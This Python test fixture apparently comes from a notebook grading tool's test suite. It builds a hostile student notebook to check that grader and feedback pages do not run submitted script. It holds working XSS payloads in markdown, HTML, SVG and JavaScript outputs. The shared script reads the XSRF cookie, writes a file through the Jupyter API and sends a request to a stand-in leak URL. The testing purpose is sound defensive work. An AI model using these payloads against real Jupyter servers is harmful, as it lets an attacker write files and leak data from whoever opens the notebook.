"""What a hostile student puts in a notebook to run script in whoever opens it (issue 24), and
what it would do if it ran: mark a canary, write a file through the Jupyter API (as the issue's
red-team did from formgrader: HTTP 201), and send a request off the machine.

Used by test_inert.py (the outputs built by hand) and test_browser.py (a real submission whose
kernel displays them, in formgrader and on the feedback page).
"""
CANARY = "__pwned"
LEAK = "http://127.0.0.1:9/leak"


def script(key):
    """JavaScript that, if it ever runs, leaves ``key`` in the canary, a file ``pwned-<key>.txt`` in
    the server's root and a request to ``LEAK-<key>``. No double quote: it goes in attributes."""
    return (f"window.{CANARY}=(window.{CANARY}||[]).concat('{key}');"
            f"fetch('/api/contents/pwned-{key}.txt',{{method:'PUT',headers:{{'Content-Type':'application/json',"
            f"'X-XSRFToken':(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]}},"
            f"body:JSON.stringify({{type:'file',format:'text',content:'pwned'}})}});"
            f"new Image().src='{LEAK}-{key}'")


#: what the student's text says, to find on the page
NOTE = "My notes on the hidden neuron"
#: a markdown cell the student adds: text and math to keep, markup that must not run
MARKDOWN = (f"## {NOTE}\n\nIts error signal is $\\delta_j = \\varphi'(net_j)\\sum_l w_{{jl}}\\delta_l$, and\n\n"
            f"$$\\frac{{\\partial E}}{{\\partial w_{{ij}}}} = \\delta_j\\, o_i$$\n\n"
            f'<img src=x onerror="{script("md")}">\n\n'
            f'<svg><animate onbegin="{script("svg")}" attributeName="x" dur="1s"/></svg>\n\n'
            f'<details open ontoggle="{script("toggle")}"><summary>more</summary>x</details>\n\n'
            f'<a href="javascript:{script("href")}">a link</a> <input id="test_cell" class="score nbgrader_cell">\n')
#: what the student's kernel displays
HTML = (f'<b>bold from HTML</b><img src=x onerror="{script("html")}"><script>{script("script")}</script>'
        f'<meta http-equiv="refresh" content="0;url={LEAK}-refresh"><style>body {{ display: none }}</style>')
JAVASCRIPT = script("js")
MARKDOWN_OUTPUT = f'*emphasis from Markdown* <img src=x onerror="{script("outmd")}">'
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{script("svgout")}"><script>{script("svgscript")}</script></svg>'

#: a code cell the student adds: the same, displayed by their kernel
CODE = ("from IPython.display import HTML, SVG, Javascript, Markdown, display\n"
        f"display(HTML({HTML!r}))\n"
        f"display(Javascript({JAVASCRIPT!r}))\n"
        f"display(Markdown({MARKDOWN_OUTPUT!r}))\n"
        f"display(SVG({SVG!r}))\n")
